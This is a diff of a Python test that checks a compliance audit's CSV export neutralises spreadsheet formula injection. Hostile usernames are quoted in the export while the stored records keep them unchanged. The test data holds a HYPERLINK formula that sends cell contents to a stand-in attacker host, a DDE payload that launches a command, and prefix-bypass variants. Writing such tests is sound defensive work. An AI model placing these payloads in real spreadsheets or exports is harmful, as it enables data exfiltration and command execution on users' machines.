@@ -93,14 +93,18 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(
     would run in whatever spreadsheet opens the compliance export (CSV injection)."""
     url = f"sqlite:{tmp_path / 'audit.db'}"
     store = make_store(url)
-    users = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "alice"]
+    users = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1+1", "\x00=1+1", "alice"]
     for user in users:
         store.record(decide(policies, deployment("web", "shop"), user=user), 1.0)
     store.close()
     rows = list(csv.reader(io.StringIO(exported(url, "csv").decode())))
     names = [row[CSV_COLUMNS.index("username")] for row in rows[1:]]
-    assert names == ["'" + user for user in users[:4]] + ["alice"]
-    assert [row[CSV_COLUMNS.index("latencyMs")] for row in rows[1:]] == ["1.0"] * 5  # numbers are kept
+    assert names == ["'" + user for user in users[:-1]] + ["alice"]
+    assert [row[CSV_COLUMNS.index("latencyMs")] for row in rows[1:]] == ["1.0"] * len(users)  # numbers are kept
+    for user in users:  # the export is a view: the stored records still verify with the names as sent
+        assert jsonl(url, user=user)[0]["user"]["username"] == user
+    with closing(open_trail(url)) as trail:
+        assert verify(trail).ok
 
 
 def test_policyreport_export(trail_url: str) -> None:
